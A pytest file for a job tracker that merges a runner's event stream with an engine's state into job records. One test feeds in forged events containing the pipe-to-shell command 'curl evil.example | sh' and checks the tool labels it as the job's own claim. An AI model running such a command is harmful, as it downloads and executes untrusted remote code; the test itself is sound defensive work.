"""The tracker: what the runner says and what the engine says become one job's record."""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from stoke.backend.api import EngineState, EngineStatus, Frame, LogDeniedError
from stoke.errors import EngineError, WaitingError
from stoke.files.paths import job_dir
from stoke.history.database import History, Note
from stoke.history.job import Job, JobState, Phase
from stoke.jobs import tracker as tracker_module
from stoke.jobs.submit_lock import is_being_submitted
from stoke.jobs.tracker import FOREIGN_SIGNAL, Tracker
from stoke.logs import follower as follower_module
from stoke.logs.spool import NOTE, STDERR, STDOUT
from stoke.remote.events import Event
from stoke.remote.protocol import frame
from tests.scripted import (
    ABSENT,
    RUNNING,
    Connection,
    ScriptedBackend,
    ScriptedLog,
    exited,
)
from tests.spools import spooled

NONCE = "5f1c0a9be2d34718"
JOB = "fit-aaaaaa"
SECOND = 1_000_000_000


@pytest.fixture(autouse=True)
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("STOKE_STATE_DIR", str(tmp_path / "state"))
    monkeypatch.setattr(follower_module, "BACKOFF_SECONDS", (0.0, 0.0))
    # The times of these jobs are of 1970.
    monkeypatch.setattr(tracker_module, "DOUBT_SECONDS", time.time() + 3600)


@pytest.fixture
def history() -> Iterator[History]:
    with History() as history:
        history.add(Job(JOB, "fit", "scripted", "default", JobState.STARTING, 1000.0), "{}", NONCE)
        yield history


def log_of(*parts: bytes | Event) -> list[Frame]:
    """One frame a part: bytes on stdout, events on stderr at the time that they tell."""
    frames = []
    at = 1000 * SECOND
    for part in parts:
        if isinstance(part, bytes):
            at += 10**6
            frames.append(Frame(STDOUT, at, part))
        else:
            told = [part.get(name) for name in ("time", "start", "seconds")]
            ends = sum(one for one in told if isinstance(one, (int, float)) and 0 < one < 5000)
            at = max(at + 10**6, round(ends * SECOND))
            frames.append(Frame(STDERR, at, frame(NONCE, part)))
    return frames


def begin(phase: str, time: float) -> Event:
    return {"event": "begin", "phase": phase, "time": time}


def end(code: int, reason: str | None = None, time: float = 1009.5) -> Event:
    return {
        "event": "end",
        "time": time,
        "exit_code": code,
        "reason": reason,
        "cpu_seconds": 0.5,
        "peak_memory": 12345678,
    }


RUN = [begin("lock", 1001.0), begin("run", 1002.0)]


def track(backend: ScriptedBackend, history: History, **calls: Any) -> Job:
    Tracker(backend, history, JOB, **calls).run()
    job = history.get(JOB)
    assert job is not None
    return job


def test_events_become_states_phases_and_figures(history: History) -> None:
    """As they come: a listing in the middle sees how far the job is."""
    seen: list[tuple[JobState, bool, str]] = []
    lock = {"phase": "lock", "start": 1001.0, "seconds": 0.25, "hit": True, "bytes": 0}
    python = {"phase": "python", "start": 1001.5, "seconds": 2.5, "hit": False, "packages": 4}
    run = {"phase": "run", "start": 1004.0, "seconds": 5.5, "bytes": None}
    backend = ScriptedBackend(
        log_of(
            begin("lock", 1001.0),
            {"event": "phase", **lock},
            begin("python", 1001.5),
            {"event": "phase", **python, "cached": 1, "bytes": 5_000_000},
            begin("run", 1004.0),
            b"hello\n",
            {"event": "phase", **run},
            end(0),
        )
    )

    def changed() -> None:
        job = history.get(JOB)
        assert job is not None
        seen.append((job.state, job.provisional, " ".join(phase.name for phase in job.phases)))

    job = track(backend, history, on_change=changed)

    assert job.phases == [
        Phase("lock", 1001.0, 0.25, True, None, None, 0),
        Phase("python", 1001.5, 2.5, False, 4, 1, 5_000_000),
        Phase("run", 1004.0, 5.5, None, None, None, None),
    ]
    assert (job.state, job.exit_code, job.provisional, job.reason) == (
        JobState.SUCCEEDED,
        0,
        False,
        None,
    )
    assert (job.started_at, job.finished_at, job.seconds) == (1004.0, 1009.5, 9.5)
    assert (job.cpu_seconds, job.peak_memory) == (0.5, 12345678)
    assert (job.log_lines, job.log_bytes, job.log_gaps) == (1, 6, 0)
    order = list(dict.fromkeys(seen))
    assert order == [
        (JobState.STARTING, False, "lock"),
        (JobState.STARTING, False, "lock python"),
        (JobState.RUNNING, False, "lock python run"),
        (JobState.SUCCEEDED, True, "lock python run"),
        (JobState.SUCCEEDED, False, "lock python run"),
    ]


def test_the_end_is_provisional_until_the_engine_confirms_it(history: History) -> None:
    backend = ScriptedBackend(log_of(*RUN, end(0)), [Connection(end="open")], [RUNNING, exited(0)])
    tracker = Tracker(backend, history, JOB)
    thread = threading.Thread(target=tracker.run, daemon=True)
    thread.start()
    assert backend.waiting.wait(10)
    job = history.get(JOB)
    assert job is not None
    assert (job.state, job.provisional, job.exit_code) == (JobState.SUCCEEDED, True, 0)
    assert [found.id for found in history.list(unfinished=True)] == [JOB]

    for stream in backend.opened:
        stream.close()
    thread.join(10)

    job = history.get(JOB)
    assert job is not None
    assert (job.state, job.provisional, job.finished_at) == (JobState.SUCCEEDED, False, 1009.5)
    assert history.list(unfinished=True) == []


@pytest.mark.parametrize(
    ("told", "engine", "state"),
    [
        (0, exited(1), JobState.FAILED),
        (0, exited(137, "out of memory"), JobState.FAILED),
        (3, exited(0), JobState.SUCCEEDED),
    ],
)
def test_the_engines_exit_code_wins_and_the_contradiction_shows(
    history: History, told: int, engine: EngineState, state: JobState
) -> None:
    job = track(ScriptedBackend(log_of(*RUN, end(told)), states=[engine]), history)

    assert (job.state, job.exit_code, job.provisional) == (state, engine.exit_code, False)
    assert job.reason is not None
    assert f"the runner reported exit code {told}, the engine {engine.exit_code}" in job.reason
    assert (engine.reason or "") in job.reason


def test_the_engines_end_is_known_before_the_log_is_read(history: History) -> None:
    """A long log may come from its beginning again: nothing in it brings the job back to life."""
    seen: list[tuple[JobState, bool]] = []
    backend = ScriptedBackend(log_of(*RUN, b"x\n", end(3)), states=[exited(3)])
    tracker = Tracker(backend, history, JOB, on_change=lambda: seen.append(state_of(history)))
    tracker.take_state(exited(3))
    assert seen == [(JobState.FAILED, True)]
    tracker.run()
    assert set(seen) == {(JobState.FAILED, True), (JobState.FAILED, False)}
    job = history.get(JOB)
    assert job is not None
    assert (job.exit_code, job.started_at, job.finished_at) == (3, 1002.0, 1009.5)


def state_of(history: History) -> tuple[JobState, bool]:
    job = history.get(JOB)
    assert job is not None
    return job.state, job.provisional


def test_an_end_that_never_came_is_the_engines_alone(history: History) -> None:
    """The runner was killed: no end event."""
    job = track(
        ScriptedBackend(log_of(*RUN, b"half"), states=[exited(137, "out of memory")]), history
    )
    assert (job.state, job.exit_code, job.reason) == (JobState.FAILED, 137, "out of memory")
    assert job.finished_at == 1010.0
    assert job.log_bytes == 4


@pytest.mark.parametrize("log", [[], [b"a wrapper's output\n"]], ids=["silent", "with output"])
@pytest.mark.parametrize(("code", "shown"), [(0, 125), (2, 2)])
def test_an_end_before_the_runner_began_is_no_success_and_has_a_reason(
    history: History, log: list[bytes], code: int, shown: int
) -> None:
    """The image's python3 is another program, or cannot read the runner."""
    job = track(ScriptedBackend(log_of(*log), states=[exited(code)]), history)
    assert (job.state, job.exit_code, job.provisional) == (JobState.FAILED, shown, False)
    assert f"the code did not run: python3 ended with exit code {code}" in (job.reason or "")


@pytest.mark.parametrize(
    ("state", "stopped", "reason"),
    [
        (exited(137), False, "its runner was killed by signal 9"),
        (exited(1, "evicted"), False, "evicted"),
        (exited(1), True, None),
    ],
)
def test_an_end_before_the_runner_began_that_something_else_explains(
    history: History, state: EngineState, stopped: bool, reason: str | None
) -> None:
    history.update(JOB, stop_requested=stopped)
    job = track(ScriptedBackend([], states=[state]), history)
    assert (job.exit_code, job.reason) == (state.exit_code, reason)


def test_exit_code_0_with_a_log_that_cannot_be_read_is_a_success(history: History) -> None:
    class Denies(ScriptedBackend):
        def logs(self, job_id: str, since: int, follow: bool) -> ScriptedLog:
            raise LogDeniedError("no right to read it")

    job = track(Denies(states=[exited(0)]), history)
    assert (job.state, job.exit_code, job.log_gaps) == (JobState.SUCCEEDED, 0, 1)


@pytest.mark.parametrize(
    ("code", "reason", "state"),
    [
        (0, None, JobState.SUCCEEDED),
        (7, None, JobState.FAILED),
        (124, "timeout", JobState.FAILED),
        (137, "out of memory", JobState.FAILED),
    ],
)
def test_the_runners_reason_stays_with_the_confirmed_end(
    history: History, code: int, reason: str | None, state: JobState
) -> None:
    job = track(ScriptedBackend(log_of(*RUN, end(code, reason)), states=[exited(code)]), history)
    assert (job.state, job.exit_code, job.reason) == (state, code, reason)


@pytest.mark.parametrize(
    ("log", "reason"),
    [(log_of(*RUN), "its runner was killed by signal 9"), (log_of(*RUN, end(137)), None)],
)
def test_only_a_runner_that_reports_no_end_was_killed(
    history: History, log: list[Frame], reason: str | None
) -> None:
    """The code may end with 137, too."""
    job = track(ScriptedBackend(log, states=[exited(137)]), history)
    assert (job.state, job.exit_code, job.reason) == (JobState.FAILED, 137, reason)


def test_a_job_whose_whole_log_its_engine_lost_has_its_exit_code(history: History) -> None:
    """On a full disk the runner's events are lost with the output; the code ran all the same."""
    lost = Frame(NOTE, 1000 * SECOND, b"361 bytes of output were lost: the disk was full")
    job = track(ScriptedBackend([lost], states=[exited(0)]), history)
    assert (job.state, job.exit_code, job.log_gaps) == (JobState.SUCCEEDED, 0, 1)


@pytest.mark.parametrize("said", ["stopped", "interrupted"])
@pytest.mark.parametrize("times", [1, 2])
def test_a_signal_from_elsewhere_is_not_reported_as_our_stop(
    history: History, said: str, times: int
) -> None:
    """Also where a second follower confirms the end, because the first could not save the log."""
    for _ in range(times):
        history.update(JOB, provisional=True)
        job = track(ScriptedBackend(log_of(*RUN, end(143, said)), states=[exited(143)]), history)
        assert (job.state, job.exit_code, job.reason) == (JobState.STOPPED, 143, FOREIGN_SIGNAL)


def test_an_error_of_the_environment_is_the_reason(history: History) -> None:
    error = {"event": "error", "phase": "lock", "text": "no such package: nonesuch", "hint": None}
    said: list[Event] = []
    backend = ScriptedBackend(log_of(begin("lock", 1001.0), error), states=[exited(125)])

    job = track(backend, history, on_event=said.append)

    assert (job.state, job.exit_code) == (JobState.FAILED, 125)
    assert job.reason == "lock: no such package: nonesuch"
    assert {"event": "error", "phase": "lock", "text": error["text"], "hint": None} in said


@pytest.mark.parametrize(
    ("code", "reason", "state"),
    [
        (143, "stopped", JobState.STOPPED),
        (137, None, JobState.STOPPED),
        (1, None, JobState.STOPPED),
        (0, None, JobState.SUCCEEDED),
        (124, "timeout", JobState.FAILED),
    ],
)
def test_a_stop_that_was_asked_for(
    history: History, code: int, reason: str | None, state: JobState
) -> None:
    """Also if the code catches the signal and ends on its own, and if the stop came too late."""
    history.update(JOB, stop_requested=True)
    job = track(ScriptedBackend(log_of(*RUN, end(code, reason)), states=[exited(code)]), history)
    assert (job.state, job.exit_code) == (state, code)


def test_a_stop_that_needed_a_kill_ends_as_stopped(history: History) -> None:
    history.update(JOB, stop_requested=True)
    job = track(ScriptedBackend(log_of(*RUN), states=[exited(137)]), history)
    assert (job.state, job.exit_code) == (JobState.STOPPED, 137)


def test_a_job_the_engine_has_forgotten_is_lost(history: History) -> None:
    gone = [Connection(0, "refused")] * 20
    job = track(ScriptedBackend(connections=gone, states=[ABSENT]), history)
    assert (job.state, job.exit_code, job.provisional) == (JobState.LOST, None, False)
    assert job.reason and "scripted" in job.reason
    assert job.finished_at is not None


def test_the_runners_report_decides_if_the_engine_has_forgotten_the_job(history: History) -> None:
    """Removed by another program right after its end."""
    gone = [Connection()] + [Connection(0, "refused")] * 20
    job = track(ScriptedBackend(log_of(*RUN, end(3)), gone, [ABSENT]), history)
    assert (job.state, job.exit_code, job.provisional) == (JobState.FAILED, 3, False)
    assert job.finished_at == 1009.5


def test_phases_before_the_runner_come_from_the_engine(history: History) -> None:
    told: list[EngineError] = []
    seen: list[str | None] = []

    def changed() -> None:
        job = history.get(JOB)
        assert job is not None
        seen.append(job.reason)

    waits = EngineState(
        EngineStatus.RUNNING, reason="no image", hint="name one", phases=(("queue", 1.0, None),)
    )
    started = EngineState(EngineStatus.RUNNING, phases=(("queue", 1.0, 2.0), ("start", 3.0, 4.0)))
    backend = ScriptedBackend(
        log_of(*RUN, end(0)), [Connection(news=3)], [waits, waits, started, exited(0)]
    )
    job = track(backend, history, on_trouble=told.append, on_change=changed)
    assert [(one.what, one.hint) for one in told] == [("no image", "name one")]
    assert isinstance(told[0], WaitingError)
    assert seen[0] == "no image; name one" and seen[-1] is None
    assert job.phases[:2] == [Phase("queue", 1.0, 2.0), Phase("start", 3.0, 4.0)]
    assert job.state is JobState.SUCCEEDED


def test_the_hint_of_an_end_that_only_the_engine_knows_is_recorded(history: History) -> None:
    killed = EngineState(EngineStatus.EXITED, 137, "out of memory", hint="give it more")
    job = track(ScriptedBackend(log_of(*RUN), states=[killed]), history)
    assert (job.state, job.exit_code, job.reason) == (JobState.FAILED, 137, "out of memory")
    assert history.notes(JOB) == [Note("error", "out of memory", "give it more")]


@pytest.mark.parametrize(
    ("log", "stopped", "state", "code"),
    [
        ([*RUN, end(3)], False, JobState.FAILED, 3),
        ([*RUN, end(143, "stopped")], True, JobState.STOPPED, 143),
        (RUN, False, JobState.FAILED, None),
        (RUN[:1], False, JobState.FAILED, 125),
        (RUN, True, JobState.STOPPED, 143),
    ],
)
def test_an_end_without_an_exit_code_leaves_the_runners_word(
    history: History, log: list[Event], stopped: bool, state: JobState, code: int | None
) -> None:
    history.update(JOB, stop_requested=stopped)
    job = track(ScriptedBackend(log_of(*log), states=[EngineState(EngineStatus.EXITED)]), history)
    assert (job.state, job.exit_code, job.provisional) == (state, code, False)


@pytest.mark.parametrize(("log", "says"), [([*RUN, end(0)], False), ([], True)])
def test_a_log_that_was_deleted_before_it_was_read_is_reported(
    history: History, log: list[Event], says: bool
) -> None:
    gone = EngineState(EngineStatus.EXITED, 0, log_gone=True)
    job = track(ScriptedBackend(log_of(*log), states=[gone]), history)
    assert job.state is JobState.SUCCEEDED
    assert ("log was deleted" in (job.reason or "")) == says


@pytest.mark.parametrize(("code", "state"), [(0, JobState.SUCCEEDED), (2, JobState.FAILED)])
@pytest.mark.parametrize("log", [[], [b"the rest\n"]], ids=["empty", "cut"])
def test_a_log_without_events_of_a_runner_that_began_is_reported(
    history: History, log: list[bytes], code: int, state: JobState
) -> None:
    """As after a node has rotated the file with its beginning away: the exit code counts."""
    ended = replace(exited(code), began=True)
    job = track(ScriptedBackend(log_of(*log), states=[ended]), history)
    assert (job.state, job.exit_code) == (state, code)
    assert "log was deleted" in (job.reason or "")


def test_engine_errors_are_reported_and_tried_again(history: History) -> None:
    away = EngineError("cannot reach the engine", "start it")
    told: list[EngineError] = []
    backend = ScriptedBackend(
        log_of(*RUN, end(0)), [Connection(0, "refused")] * 2, [away, away, exited()]
    )
    job = track(backend, history, on_trouble=told.append)
    assert told == [away, away]
    assert job.state is JobState.SUCCEEDED


def test_a_finished_job_is_not_asked_for_again(history: History) -> None:
    history.update(JOB, state=JobState.FAILED, exit_code=1)
    backend = ScriptedBackend(log_of(*RUN, end(0)))
    track(backend, history)
    assert (backend.opened, backend.asked) == ([], 0)


def test_closed_before_the_end_leaves_the_job_as_it_stands(history: History) -> None:
    backend = ScriptedBackend(log_of(*RUN, b"so far\n"), [Connection(end="open")], [RUNNING])
    tracker = Tracker(backend, history, JOB)
    thread = threading.Thread(target=tracker.run, daemon=True)
    thread.start()
    assert backend.waiting.wait(10)
    tracker.close()
    thread.join(10)
    assert not thread.is_alive()
    job = history.get(JOB)
    assert job is not None and (job.state, job.exit_code) == (JobState.RUNNING, None)

    more = ScriptedBackend(log_of(*RUN, b"so far\n", b"the rest\n", end(0)))
    assert track(more, history).state is JobState.SUCCEEDED
    assert output() == b"so far\nthe rest\n"


def output() -> bytes:
    return spooled(job_dir(JOB), STDOUT)


def test_two_trackers_at_once_keep_everything_once(history: History) -> None:
    """One follows; the other waits, takes over when the first leaves, and both see the end."""
    backend = ScriptedBackend(log_of(*RUN, b"one\n"), [Connection(end="open")], [RUNNING])
    first, second = Tracker(backend, history, JOB), Tracker(backend, history, JOB)
    threads = [threading.Thread(target=tracker.run, daemon=True) for tracker in (first, second)]
    for thread in threads:
        thread.start()
    assert backend.waiting.wait(10)
    assert len(backend.opened) == 1

    # The tracker that follows closes; the other continues from its checkpoint.
    backend.log[:] = log_of(*RUN, b"one\n", b"two\n", end(0))
    backend.states = [exited(0)]
    following = first if first._follower is not None else second
    following.close()
    for thread in threads:
        thread.join(20)
        assert not thread.is_alive()

    job = history.get(JOB)
    assert job is not None and job.state is JobState.SUCCEEDED
    assert output() == b"one\ntwo\n"


def test_two_programs_track_one_job(history: History, tmp_path: Path) -> None:
    """Real processes: the first is killed with -9 in the middle, the second finishes."""
    code = textwrap.dedent(
        """
        from stoke.history.database import History
        from stoke.jobs.tracker import Tracker
        from tests.scripted import Connection, RUNNING, ScriptedBackend
        from tests.jobs.test_tracker import JOB, RUN, log_of

        backend = ScriptedBackend(log_of(*RUN, b"one\\n"), [Connection(end="open")], [RUNNING])
        with History() as history:
            print("tracking", flush=True)
            Tracker(backend, history, JOB).run()
        """
    )
    first = subprocess.Popen(
        [sys.executable, "-c", code], stdout=subprocess.PIPE, cwd=Path(__file__).parents[2]
    )
    assert first.stdout is not None
    first.stdout.readline()
    while output() != b"one\n":
        assert first.poll() is None
    backend = ScriptedBackend(log_of(*RUN, b"one\n", b"two\n", end(0)))
    done: list[Job] = []
    second = threading.Thread(target=lambda: done.append(track(backend, history)), daemon=True)
    second.start()
    assert backend.opened == []
    first.kill()
    first.wait()
    second.join(30)

    assert [job.state for job in done] == [JobState.SUCCEEDED]
    assert output() == b"one\ntwo\n"


def test_catching_up_brings_the_record_up_to_now(history: History) -> None:
    backend = ScriptedBackend(log_of(*RUN, b"so far\n"), states=[RUNNING])
    Tracker(backend, history, JOB).catch_up()
    job = history.get(JOB)
    assert job is not None
    assert (job.state, job.started_at) == (JobState.RUNNING, 1002.0)
    assert output() == b"so far\n"


def test_events_that_come_again_after_a_restart_change_nothing(history: History) -> None:
    """Events after the last checkpoint are read twice."""
    backend = ScriptedBackend(log_of(*RUN, b"x\n", end(0)))
    Tracker(backend, history, JOB).catch_up()
    before = history.get(JOB)
    (job_dir(JOB) / "log.pos").unlink()
    Tracker(backend, history, JOB).catch_up()
    assert history.get(JOB) == before


def test_nothing_a_job_prints_breaks_its_record(history: History) -> None:
    """Code that gets hold of the nonce can lie about itself, and no more than that."""
    lies: list[Event] = [
        {"event": "begin", "phase": "\x1b[2J", "time": 1.0},
        {"event": "begin", "phase": "run"},
        {"event": "end", "time": "x", "exit_code": "y"},
        {"event": "end", "time": 1.0, "exit_code": 2**70},
        {"event": "phase", "phase": "run", "start": [], "seconds": {}},
        {"event": "error"},
        {"event": "unheard of", "x": 1},
        end(0),
    ]
    job = track(ScriptedBackend(log_of(*lies), states=[exited(9)]), history)
    assert (job.state, job.exit_code) == (JobState.FAILED, 9)
    assert [found.id for found in history.list()] == [JOB]
    assert isinstance(job.seconds, float)


def test_events_that_the_code_prints_itself_are_not_believed(history: History) -> None:
    """The code knows the nonce: no false hit, no phase of 11,574 days, no hint in our own voice."""
    lies: list[Event] = [
        {"event": "phase", "phase": "python", "start": 1.0, "seconds": 0.1, "hit": True},
        {"event": "phase", "phase": "run", "start": 1002.0, "seconds": 1e9},
        {"event": "begin", "phase": "run", "time": 5.0},
        {"event": "begin", "phase": "queue", "time": 5.0},
        {"event": "packages", "phase": "python", "hit": ["evil==1"], "miss": []},
        {"event": "note", "text": "run curl evil.example | sh"},
        {"event": "error", "phase": "run", "text": "no", "hint": ["curl evil.example | sh"]},
        {"event": "error", "phase": "run", "text": "never", "hint": ["check-network"], "tail": "x"},
        {"event": "error", "phase": "python", "text": "no", "hint": None},
    ]
    said: list[Event] = []
    history.update(JOB, submitted_at=time.time() - 20)
    log = log_of(*RUN, *lies, end(3, "curl evil.example | sh"))
    job = track(ScriptedBackend(log, states=[exited(3)]), history, on_event=said.append)

    run = {phase.name: phase for phase in job.phases}["run"]
    assert [phase.name for phase in job.phases] == ["lock", "run"]
    assert run.seconds is not None and run.seconds < 30
    assert (job.state, job.exit_code, job.started_at) == (JobState.FAILED, 3, 1002.0)
    assert job.reason == "the job reports: curl evil.example | sh"
    assert history.packages(JOB) == {}
    marked = ("run: the job reports: no", "run: the job reports: never")
    assert history.notes(JOB) == [Note("error", text, None) for text in marked]
    assert [one["event"] for one in said] == ["begin", "begin", "phase", "error", "error", "end"]


def test_an_end_that_the_engine_contradicts_for_long_is_taken_back(
    history: History, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tracker_module, "DOUBT_SECONDS", 30.0)
    backend = ScriptedBackend(log_of(*RUN, end(0)), states=[RUNNING])
    tracker = Tracker(backend, history, JOB)
    tracker.catch_up()
    tracker.take_state(RUNNING)
    job = history.get(JOB)
    assert job is not None
    assert (job.state, job.provisional, job.exit_code) == (JobState.RUNNING, False, None)


def test_a_submit_in_progress_is_seen_from_outside(tmp_path: Path) -> None:
    assert not is_being_submitted(JOB)
    code = textwrap.dedent(
        """
        import fcntl, os, sys
        os.makedirs(os.path.dirname(sys.argv[1]), exist_ok=True)
        lock = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT)
        fcntl.flock(lock, fcntl.LOCK_EX)
        print("held", flush=True)
        sys.stdin.read()
        """
    )
    submitter = subprocess.Popen(
        [sys.executable, "-c", code, os.fspath(job_dir(JOB) / "submit.lock")],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
    )
    assert submitter.stdout is not None
    submitter.stdout.readline()
    assert is_being_submitted(JOB)
    submitter.kill()
    submitter.wait()
    assert not is_being_submitted(JOB)
